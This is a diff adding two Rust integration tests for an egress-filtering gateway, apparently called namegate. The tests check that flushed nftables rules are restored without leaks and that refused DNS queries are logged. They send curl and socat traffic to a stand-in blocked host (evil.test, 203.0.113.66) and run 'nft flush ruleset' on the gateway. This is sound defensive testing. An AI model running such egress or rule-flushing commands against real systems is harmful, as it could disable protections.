@@ -688,3 +688,44 @@ fn a_log_that_takes_no_more_lines_does_not_keep_the_gate_from_stopping() {
         !text(&world.run("gw", "pgrep -x namegate").stdout).contains(&pid)
     });
 }
+
+#[test]
+fn rules_that_somebody_deletes_are_put_back_and_nothing_leaks_meanwhile() {
+    if !inside("rules_that_somebody_deletes_are_put_back_and_nothing_leaks_meanwhile") {
+        return;
+    }
+    let (mut world, far) = world();
+    // The worst host: it forwards whatever no rule forbids.
+    world.gateway("sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1");
+    let gate = world.start_gate(RULES);
+    let traffic = "while :; do for f in -4 -6; do \
+        curl $f -sk --max-time 1 https://good.example.com/; \
+        curl -sk --max-time 1 --resolve evil.test:443:203.0.113.66 https://evil.test/; \
+        echo x | socat -t0.1 - UDP:203.0.113.66:9999; done; done";
+    world.spawn("c1", "traffic", "sh", &["-c", traffic]);
+    wait_until("traffic flows", Duration::from_secs(10), || far.all_connections() > 3);
+    let seen = gate.events("ruleset").len();
+    world.gateway("nft flush ruleset");
+    wait_until("the rules are back", Duration::from_secs(12), || gate.events("ruleset").len() >= seen + 2);
+    let told = gate.events("ruleset");
+    assert_eq!(told[seen]["event"]["reason"], "missing", "{}", told[seen]);
+    assert!(world.gateway("nft list tables").contains("inet namegate"));
+    let through = far.all_connections();
+    wait_until("allowed traffic flows again", Duration::from_secs(10), || far.all_connections() > through);
+    assert_eq!(far.connections("203.0.113.66:443"), 0);
+    assert_eq!(leaked(&world), 0, "a packet passed");
+}
+
+#[test]
+fn stopping_at_once_writes_out_the_whole_log() {
+    if !inside("stopping_at_once_writes_out_the_whole_log") {
+        return;
+    }
+    let (mut world, _far) = world();
+    let gate = world.start_gate(&RULES.replace("sniff_timeout", "drain = \"0s\"\nsniff_timeout"));
+    let out = text(&world.run("c1", "dig +tries=1 @8.8.8.8 $(seq -f n%g.evil.test 200)").stdout);
+    world.end(gate.pid, Signal::TERM);
+    let answered = out.matches("status: REFUSED").count();
+    assert!(answered > 150, "{answered}");
+    assert!(gate.events("dns").len() >= answered, "{} of {answered} lines", gate.events("dns").len());
+}
